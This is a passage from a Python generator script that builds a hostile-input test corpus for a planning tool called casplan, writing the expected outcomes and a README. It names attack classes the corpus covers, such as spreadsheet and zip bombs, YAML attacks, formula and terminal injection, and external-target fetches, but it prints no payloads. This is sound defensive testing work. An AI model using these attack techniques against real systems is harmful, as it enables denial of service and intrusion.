    raise TypeError(type(v))


def write_expected():
    lines = [
        "# casplan hostile-input corpus: one entry per case. GENERATED by make_hostile.py from its case table —",
        "# edit the script, not this file. Written before any of it was run against casplan.",
        "#",
        "# How to run an entry (see README.md):",
        "#   working directory: tests/data/hostile;  casplan = /work/main/.venv/bin/casplan",
        "#   {file} = the entry's file (relative), {tmp} = a fresh empty temporary directory for this entry",
        "#   run each `setup` line with sh (after substituting), then `casplan <command>` under the limits",
        "#   (wall-clock seconds; peak RSS of the process tree in GB), then each `after` line must exit 0.",
        "#   env: extra environment variables for the command.  skip_if_root: mode bits do not bind root.",
        "#   Commands starting with `sh -c` / `timeout` are run as written (casplan on PATH).",
        "# expect:",
        "#   refused  exit code `exit` (default 2; report's documented codes are 1 for unusable inputs/params, 2 for",
        "#            policy errors, so report entries accept [1, 2]); stderr ends with one line in Chinese that",
        "#            names the offending file (its file name at least); no Python traceback; within limits; for",
        "#            report: no half-made run folder left and latest unchanged; every input byte-identical after.",
        "#   decided  exit `exit` (default 0) and the `decision` holds; every `must` holds; `should` is the better",
        "#            behaviour but not required. also_acceptable: an alternative outcome that is also fine.",
        "# Always: no traceback, no file written outside {tmp} (except where a case says), inputs unchanged.",
        "",
    ]
    for c in CASES:
        first = True
        for k in KEY_ORDER:
            if k not in c or c[k] is None:
                continue
            v = c[k]
            if k == "exit" and c["expect"] == "decided" and v == 0:
                continue
            prefix = "- " if first else "  "
            first = False
            lines.append(f"{prefix}{k}: {yval(v, 2)}")
        lines.append("")
    (OUT / "EXPECTED.yaml").write_text("\n".join(lines), encoding="utf-8")


SECTIONS = [
    ("0. Controls", lambda c: c["case"].startswith("control") or c["case"] == "policy_control"),
    ("1. Spreadsheet bombs and broken containers", lambda c: (c.get("file") or "").startswith(("sheets/", "csv/"))),
    ("2. YAML attacks (policy, report params, overrides, scenario, directions)", lambda c: (c.get("file") or "").startswith(("yaml/", "big/"))),
    ("3. Script / HTML / formula / terminal injection", lambda c: c["case"].startswith("inject")),
    ("4. Identity tricks that move money", lambda c: (c.get("file") or "").startswith("identity") or c["case"].startswith(("same_", "dup_", "roster_", "history_"))),
    ("5. Absurd values", lambda c: (c.get("file") or "").startswith("absurd/")),
    ("6. Run / record attacks", lambda c: True),
]


def write_readme():
    seen = set()
    parts = [
        "# Hostile inputs for casplan",
        "",
        "An attack corpus: files (and a few shell set-ups) that a hostile or careless sender could hand the bureau, with the",
        "outcome a careful bureau wants for each, written **before** any of it was run against casplan. The expectations come",
        "from the analysts' guide (`docs/*.md`), the policy format (`casplan/policy/2023.yaml`), the examples in",
        "`docs/examples/` and `casplan <cmd> --help` — not from casplan's code.",
        "",
        "```bash",
        "cd tests/data/hostile",
        "python3 make_hostile.py            # rebuild everything (deterministic); --no-big skips big/ (five 50 MB YAML files)",
        "```",
        "",
        "* `make_hostile.py` — the generator (standard library only) and the case table; it writes the files, `EXPECTED.yaml` and this README.",
        "* `EXPECTED.yaml` — one entry per case: `command`, optional `setup`/`after` shell lines and `env`, `expect`",
        "  (`refused` | `decided`), `exit`, `limits` (seconds, GB), `decision`, `must`, `should`, `also_acceptable`, `why`.",
        "  The header of that file says exactly how to run an entry.",
        "* `base/` — a six-application year every case builds on: `roster.csv` (10 units), `history.csv` (2022 execution:",
        "  中国科学院化学研究所 6/20 万元 = **30 %**, so U2 excludes it; the others ≥ 80 %), `plans.csv`/`plans.xlsx` (P2399001 化学所,",
        "  P2399002 物理所, P2399003 大连化物所, P2399004 北京分院, P2399005 人事局 管理类, P2399006 遗传发育所 短期班), `params.yaml`.",
        "  `control_base_select` states what the base year must decide; every identity case is 'base + two rows'.",
        "* The policy and directions variants under `yaml/` are text edits of the repository's *current*",
        "  `casplan/policy/2023.yaml` and `directions-2023.yaml`, read when the script runs (each edit asserts its target",
        "  line still exists, so the script fails loudly rather than producing a silently different case when the policy",
        "  changes). Re-run the script after editing the policy.",
        "* `big/` (git-ignored) — the 50 MB YAML scalars, regenerated by the script. Every other file is ≤ ~3 MB; the",
        "  spreadsheet bombs are highly compressible XML written through zlib in a stream (20 M rows in 1.3 MB).",
        "",
        "Global rules for every case: no Python traceback; within the limits (default 30 s and 2 GB for refusals); inputs",
        "byte-identical afterwards; nothing written outside `{tmp}` (several cases check this with `after:` lines).",
        "",
    ]
    for title, pred in SECTIONS:
        rows = [c for c in CASES if c["case"] not in seen and pred(c)]
        if not rows:
            continue
        parts += [f"## {title}", "", "| case | file / command | expect | why |", "|---|---|---|---|"]
        for c in rows:
            seen.add(c["case"])
            f = c.get("file") or ("`" + c["command"].replace("|", "\\|") + "`")
            why = c["why"].replace("|", "\\|").replace("\n", " ")
            if len(why) > 220:
                why = why[:217] + "…"
            alt = c.get("also_acceptable", "").split()[0].rstrip(":") if c.get("also_acceptable") else ""
            if alt and alt not in ("refused", "decided"):
                alt = "other"
            exp = c["expect"] + (f" (or {alt})" if alt else "")
            parts.append(f"| `{c['case']}` | {f} | {exp} | {ystr(why)[1:-1].replace(chr(92) + chr(34), chr(34))} |")
        parts.append("")
    parts += [
        "## Could not be expressed as a file here",
        "",
        "* Read-only output directory as root: mode bits do not stop root; `out_readonly_dir` is marked `skip_if_root`",
        "  (use an unprivileged user or a read-only bind mount).",
        "* A zip whose entries overlap (several central-directory entries sharing one compressed stream, Fifield's",
        "  non-recursive zip bomb) cannot also keep matching local names, which Python's zipfile checks first; the",
        "  package-level equivalent (20,000 sheets pointing at one worksheet part) is `xlsx_sheet_alias_bomb`.",
        "* Homoglyphs: none of the characters of the roster's names has a Kangxi-radical or CJK-compatibility twin",
        "  (⼈ for 人 exists, but only 人事局 — a department, where U1/U2 do not bite); traditional forms stand in.",
        "* Network fetches (`xlsx_external_sheet_target`) and terminal rendering can only be checked with outside tools",
        "  (`unshare -n` / strace; a byte scan of stdout for ESC).",
        "",
        f"{len(CASES)} cases.",
        "",
    ]
    (OUT / "README.md").write_text("\n".join(parts), encoding="utf-8")


GENERATED_DIRS = ("base", "sheets", "csv", "yaml", "big", "inject", "identity", "absurd", "run")


def main():
    global OUT, MAKE_BIG
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--no-big", action="store_true", help="skip big/ (the 50 MB YAML files)")
    ap.add_argument("--out", type=Path, default=HERE)
    a = ap.parse_args()
    OUT, MAKE_BIG = a.out.resolve(), not a.no_big
    OUT.mkdir(parents=True, exist_ok=True)
    for sub in GENERATED_DIRS:  # only the script's own output folders: no stale files survive a rebuild
        if (OUT / sub).is_dir() and not (sub == "big" and not MAKE_BIG):
            shutil.rmtree(OUT / sub)
    (OUT / ".gitignore").write_text("big/\n__pycache__/\n", encoding="utf-8")
    for gen in (gen_base, gen_sheets, gen_csv, gen_yaml, gen_inject, gen_identity, gen_absurd, gen_run):
        gen()
        print(f"{gen.__name__}: {len(CASES)} cases so far", file=sys.stderr)
    write_expected()
    write_readme()
    for c in CASES:
        f = c.get("file")
        if f and not (c.get("big") and not MAKE_BIG):
            assert (OUT / f).exists(), f
    print(f"{len(CASES)} cases written to {OUT}", file=sys.stderr)


if __name__ == "__main__":
    main()
